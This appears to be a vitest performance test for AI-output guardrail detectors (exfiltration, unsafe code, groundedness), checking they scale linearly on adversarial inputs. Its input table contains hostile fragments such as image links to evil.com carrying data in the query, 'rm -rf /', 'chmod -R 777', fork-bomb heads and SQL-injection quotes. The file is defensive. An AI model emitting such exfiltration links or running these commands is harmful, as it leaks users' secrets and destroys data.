import { type DetectContext, type Detector, memoryStore, type NormalizedText, normalizeText } from '@parapet/core';
import { collectGarbage } from '@parapet/core/test';
import { describe, expect, it } from 'vitest';
import { exfiltration } from './exfiltration.js';
import { groundedness } from './groundedness.js';
import { unsafeCode } from './unsafe-code.js';

/**
 * Linear time on hostile input for exfiltration, unsafe-code and groundedness. For each adversarial family,
 * detecting on 1 M characters must cost about four times what 250 K characters cost; quadratic behaviour
 * would cost sixteen. The assertion is a generous ratio (< 10), taken as the best of five runs, never an
 * absolute time. Normalization is computed outside the timing (the core proves it linear), so the ratio
 * measures the scanners' own patterns and loops.
 */
const FAMILIES: Record<string, (size: number) => string> = {
  'letters then !': (size) => `${'a'.repeat(size)}!`,
  digits: (size) => '7'.repeat(size),
  'image openers ![': (size) => '!['.repeat(size / 2),
  'schemes http://': (size) => 'http://'.repeat(size / 7),
  'open parentheses': (size) => '('.repeat(size),
  'link openers [a](': (size) => '[a]('.repeat(size / 4),
  'image then long alt': (size) => `![${'a'.repeat(499)}`.repeat(size / 501),
  'html img src=': (size) => '<img src='.repeat(size / 9),
  'css url(': (size) => 'url('.repeat(size / 4),
  'reference definitions': (size) => '[a]: '.repeat(size / 5),
  'huge URL with data': (size) => `![x](https://evil.com/?d=${'A1b2'.repeat(size / 4)}`,
  'URL-encoded prose query': (size) => `https://evil.com/?q=${'word+'.repeat(size / 5)}`,
  'data URIs': (size) => 'data:text/html,'.repeat(size / 15),
  backticks: (size) => '`'.repeat(size),
  'inline code spans': (size) => '`a` '.repeat(size / 4),
  'fence lines': (size) => '```\n'.repeat(size / 4),
  'rm -rf repeated': (size) => 'rm -rf '.repeat(size / 7),
  'rm -rf / repeated': (size) => 'rm -rf / '.repeat(size / 9),
  'chmod repeated': (size) => 'chmod -R 777 '.repeat(size / 13),
  'curl without a pipe': (size) => 'curl x '.repeat(size / 7),
  'fork bomb heads': (size) => ':(){ '.repeat(size / 5),
  'DELETE FROM without end': (size) => 'DELETE FROM t '.repeat(size / 14),
  'quote OR quote': (size) => "' OR '".repeat(size / 6),
  'capitalized words': (size) => 'Aa '.repeat(size / 3),
  'straight quotes': (size) => '"a '.repeat(size / 3),
  'thousands separators': (size) => '1,'.repeat(size / 2),
  'month dates': (size) => 'March 5, '.repeat(size / 9),
  emoji: (size) => '😀'.repeat(size / 2),
  'lone surrogates': (size) => '\ud800a'.repeat(size / 2),
};

const store = memoryStore();
const history = [
  { role: 'user' as const, content: 'the launch code is blue falcon seven and the account is acct9931zq77x1' },
];

function contextOf(normalized: NormalizedText): DetectContext {
  return { stage: 'output', traceId: 'linearity', normalized, signal: new AbortController().signal, store, history };
}

async function once(detector: Detector, text: string, normalized: NormalizedText, repeat = 1): Promise<number> {
  const context = contextOf(normalized);
  collectGarbage();
  const started = performance.now();
  for (let i = 0; i < repeat; i++) await detector.detect(text, context);
  return (performance.now() - started) / repeat;
}

/**
 * Best of five, small and large interleaved, so a pause of the machine hits both sizes alike. Each small
 * measurement runs the detector four times back to back (and divides), so both measurements last about as
 * long and a busy machine preempts them alike; the ratio keeps its meaning (4 linear, 16 quadratic).
 */
async function ratio(detector: Detector, small: string, large: string): Promise<number> {
  const smallView = normalizeText(small);
  const largeView = normalizeText(large);
  await once(detector, small, smallView);
  await once(detector, large, largeView);
  let bestSmall = Number.POSITIVE_INFINITY;
  let bestLarge = Number.POSITIVE_INFINITY;
  for (let round = 0; round < 5; round++) {
    bestSmall = Math.min(bestSmall, await once(detector, small, smallView, 4));
    bestLarge = Math.min(bestLarge, await once(detector, large, largeView));
  }
  // A floor of one millisecond: a prefilter that rejects 250 K characters in microseconds would otherwise
  // turn timer noise and a garbage collection into a ratio. Quadratic work on 250 K characters takes
  // seconds, far above it.
  return bestLarge / Math.max(bestSmall, 1);
}

const DETECTORS: Record<string, Detector> = {
  exfiltration: exfiltration({ allowDomains: ['docs.example.com'] }),
  'unsafe-code (code only)': unsafeCode(),
  // Credentials are found by @parapet/pii's secretsDetector, whose linearity its own package proves; here
  // the whole-text variant measures this file's shell and SQL patterns.
  'unsafe-code (whole text)': unsafeCode({
    scope: 'all',
    categories: ['destructive-command', 'remote-code-execution', 'sql-destructive', 'sql-injection'],
  }),
  groundedness: groundedness({
    context: 'Acme Corp reported $1,000 million in 2023. Jane Doe founded it on March 5, 2021. "Build to last."',
  }),
};

for (const [name, detector] of Object.entries(DETECTORS)) {
  describe(`${name} is linear on adversarial inputs`, () => {
    for (const [family, make] of Object.entries(FAMILIES)) {
      it(family, async () => {
        const value = await ratio(detector, make(250_000), make(1_000_000));
        if (process.env.S2_RATIOS) console.log(`${name} / ${family}: ${value.toFixed(2)}`);
        expect(value).toBeLessThan(10);
      });
    }
  });
}
